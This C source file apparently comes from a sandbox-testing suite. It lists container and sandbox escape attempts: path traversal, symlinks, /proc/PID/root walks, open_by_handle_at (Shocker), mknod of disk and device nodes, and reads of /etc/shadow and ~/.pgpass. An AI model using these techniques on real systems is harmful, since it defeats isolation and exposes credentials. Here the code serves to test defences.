/*
 * Inputs and files: reading what is not on the allow-list. The secret lies in files, names and file systems around
 * the inputs; whoever prints it has found a way.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "act.h"
#include "stage.h"
#include "text.h"

#ifndef SYS_statmount
#define SYS_statmount 457
#define SYS_listmount 458
#endif

ACT(read_path)
{
	return show_file(targets_text(t, a->arg));
}

ACT(read_through_own_link)
{
	if (symlink(targets_text(t, a->arg), "mine"))
		return -errno;
	return show_file("mine");
}

/* Up from the working directory, however deep it lies. */
ACT(read_upwards)
{
	char path[4096] = "";
	for (int i = 0; i < 40; i++)
		strcat(path, "../");
	strcat(path, targets_text(t, a->arg));
	return show_file(path);
}

ACT(list_directory)
{
	return show_names(targets_text(t, a->arg));
}

ACT(list_parents)
{
	char path[4096];
	snprintf(path, sizeof(path), "%s", targets_text(t, a->arg));
	int r = -ENOENT;
	for (char *slash; r && (slash = strrchr(path, '/')) && slash != path;) {
		*slash = '\0';
		r = show_names(path);
	}
	return r;
}

ACT(walk_up_by_descriptor)
{
	_cleanup_close_ int fd = open(targets_text(t, a->arg), O_PATH | O_DIRECTORY);
	int r = fd < 0 ? -errno : -ENOENT;
	for (int up = 0; fd >= 0 && r && up < 40; up++) {
		r = show_file_at(fd, "secrets/token");
		int next = openat(fd, "..", O_PATH | O_DIRECTORY);
		fd_close(fd);
		fd = next;
	}
	return r;
}

ACT(read_by_handle)
{
	struct {
		struct file_handle head;
		unsigned char bytes[128];
	} handle = {.head.handle_type = (int)targets_number(t, "handle.type")};
	const char *hex = targets_text(t, "handle.bytes");
	handle.head.handle_bytes = (unsigned)strlen(hex) / 2;
	if (!handle.head.handle_bytes || hex_decode(hex, handle.head.f_handle, handle.head.handle_bytes))
		return -EINVAL;
	const char *mounts[] = {targets_text(t, "data"), ".", "/", "/usr", "/tmp"};
	int r = -ENOENT;
	for (size_t i = 0; r && i < ARRAY_SIZE(mounts); i++) {
		_cleanup_close_ int mount = open(mounts[i], O_RDONLY | O_DIRECTORY);
		_cleanup_close_ int fd = open_by_handle_at(mount, &handle.head, O_RDONLY);
		r = fd < 0 ? -errno : show_fd(fd);
	}
	return r;
}

/* The disk below the platform, as a device node of one's own. */
ACT(read_block_device)
{
	unsigned device = (unsigned)targets_number(t, "device");
	if (mknod("disk", S_IFBLK | 0600, device))
		return -errno;
	_cleanup_close_ int fd = open("disk", O_RDONLY);
	char block[512];
	if (fd < 0 || pread(fd, block, sizeof(block), 0) != sizeof(block))
		return -errno;
	return reached("the disk %u:%u can be read", major(device), minor(device));
}

ACT(read_character_device)
{
	if (mknod("device", S_IFCHR | 0600, (dev_t)a->number))
		return -errno;
	_cleanup_close_ int fd = open("device", O_RDONLY | O_NONBLOCK);
	return fd < 0 ? -errno : reached("device %s can be opened", a->arg);
}

static int open_root(const struct targets *t, pid_t pid)
{
	return show_file(text("/proc/%d/root%s", pid, targets_text(t, "secret")));
}

static int open_cwd(UNUSED const struct targets *t, pid_t pid)
{
	_cleanup_close_ int fd = open(text("/proc/%d/cwd", pid), O_PATH | O_DIRECTORY);
	if (fd >= 0)
		show_file_at(fd, "secrets/token");
	return -ENOENT; /* on to the next process */
}

ACT(read_through_roots)
{
	return each_process(open_root, t);
}

ACT(read_through_directories)
{
	return each_process(open_cwd, t);
}

/* statmount() and listmount() tell of mounts without /proc. */
ACT(list_mounts)
{
	struct {
		uint32_t size, spare;
		uint64_t id, param, ns;
	} ask = {.size = 24, .id = UINT64_MAX /* LSMT_ROOT */};
	uint64_t ids[256];
	long n = syscall(SYS_listmount, &ask, ids, ARRAY_SIZE(ids), 0);
	if (n < 0)
		return -errno;
	for (long i = 0; i < n; i++) {
		char room[4096];
		ask.id = ids[i];
		ask.param = 0x10 | 0x08; /* STATMOUNT_MNT_POINT, STATMOUNT_MNT_ROOT */
		if (!syscall(SYS_statmount, &ask, room, sizeof(room), 0))
			show(room, sizeof(room));
	}
	return 0;
}

ACT(open_for_claim)
{
	const char *path = a->arg[0] == '/' ? a->arg : targets_text(t, a->arg);
	_cleanup_close_ int fd = open(path, (int)a->number | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	return fd < 0 ? -errno : reached("%s can be opened", path);
}

#define READ(n, how, fn, target, ...)                                                                       \
	{                                                                                                   \
		.name = n, .mechanism = how, .run = fn, .arg = target, .effect = EFFECT_SECRET, __VA_ARGS__ \
	}
#define OPEN(n, how, path, flags, ...)                                                            \
	{                                                                                         \
		.name = n, .mechanism = how, .run = open_for_claim, .arg = path, .number = flags, \
		.effect = EFFECT_CLAIM, __VA_ARGS__                                               \
	}

static const struct attack table[] = {
	READ("read-secret", "open() of a secret beside the inputs", read_path, "secret"),
	READ("read-pgpass", "the supervisor's ~/.pgpass", read_path, "pgpass"),
	READ("read-ledger", "the ledger, with the results of others", read_path, "ledger"),
	READ("read-state", "the state directory, with the records of others", read_path, "state.file"),
	READ("read-workspace", "the workspace of another analysis", read_path, "others.file"),
	READ("read-own-link", "a link of one's own to the secret", read_through_own_link, "secret"),
	READ("read-data-link", "a link in data/ to the secret, absolute", read_path, "data.link"),
	READ("read-data-relative-link", "a link in data/ to ../secrets", read_path, "data.relative"),
	READ("read-data-directory-link", "a directory link in data/ to the secrets", read_path,
	     "data.outdir"),
	READ("read-upwards", "../../… from the working directory", read_upwards, "secret"),
	READ("read-input-upwards", "../ of an input, component by component", walk_up_by_descriptor, "data"),
	READ("read-proc-root", "/proc/PID/root of every process in sight", read_through_roots, ""),
	READ("read-proc-cwd", "/proc/PID/cwd of every process in sight", read_through_directories, ""),
	READ("read-handle", "open_by_handle_at() with the secret's handle (the mechanism of Shocker)",
	     read_by_handle, "", .flags = ROOT_ONLY),
	READ("list-platform", "the names beside the inputs", list_parents, "data"),
	READ("list-tmp", "the names in /tmp", list_directory, "tmp"),
	READ("list-var-tmp", "the names in /var/tmp", list_directory, "vartmp"),
	READ("list-shm", "the names in /dev/shm", list_directory, "shm"),
	READ("list-home", "the names in the supervisor's home", list_directory, "home"),
	READ("mountinfo", "host paths as names in /proc/self/mountinfo", read_path, "mountinfo",
	     .flags = ROOT_ONLY),
	READ("mounts", "host paths as names in /proc/mounts", read_path, "mounts", .flags = ROOT_ONLY),
	READ("mountstats", "host paths as names in /proc/self/mountstats", read_path, "mountstats",
	     .flags = ROOT_ONLY),
	READ("listmount", "host paths as names by listmount() and statmount()", list_mounts, "",
	     .flags = ROOT_ONLY),
	{.name = "mknod-disk",
	 .mechanism = "mknod() of the disk below the platform",
	 .run = read_block_device,
	 .effect = EFFECT_CLAIM,
	 .flags = ROOT_ONLY},
	{.name = "mknod-kmsg",
	 .mechanism = "mknod() of /dev/kmsg",
	 .run = read_character_device,
	 .arg = "1:11",
	 .number = 0x10b,
	 .effect = EFFECT_CLAIM,
	 .flags = ROOT_ONLY},
	{.name = "mknod-fuse",
	 .mechanism = "mknod() of /dev/fuse",
	 .run = read_character_device,
	 .arg = "10:229",
	 .number = 0xae5,
	 .effect = EFFECT_CLAIM,
	 .flags = ROOT_ONLY},
	OPEN("device-kmsg", "open() of /dev/kmsg", "/dev/kmsg", O_RDONLY),
	OPEN("device-fuse", "open() of /dev/fuse", "/dev/fuse", O_RDWR),
	OPEN("device-kvm", "open() of /dev/kvm", "/dev/kvm", O_RDWR),
	OPEN("device-tun", "open() of /dev/net/tun", "/dev/net/tun", O_RDWR),
	OPEN("device-loop", "open() of /dev/loop-control", "/dev/loop-control", O_RDWR),
	OPEN("device-vsock", "open() of /dev/vsock, which tells the machine's address", "/dev/vsock",
	     O_RDONLY),
	OPEN("device-userfaultfd", "open() of /dev/userfaultfd", "/dev/userfaultfd", O_RDWR),
	OPEN("device-console", "open() of the console, mechanism of CVE-2025-52565", "/dev/console",
	     O_WRONLY),
	OPEN("etc-shadow", "open() of /etc/shadow", "/etc/shadow", O_RDONLY),
	OPEN("etc-passwd-write", "open(O_WRONLY) of /etc/passwd", "/etc/passwd", O_WRONLY),
	OPEN("usr-bin-write", "open(O_WRONLY) of a system program", "/usr/bin/env", O_WRONLY),
};

const struct attack_family inputs_read = {.name = "inputs", .title = "inputs and files", FAMILY(table)};
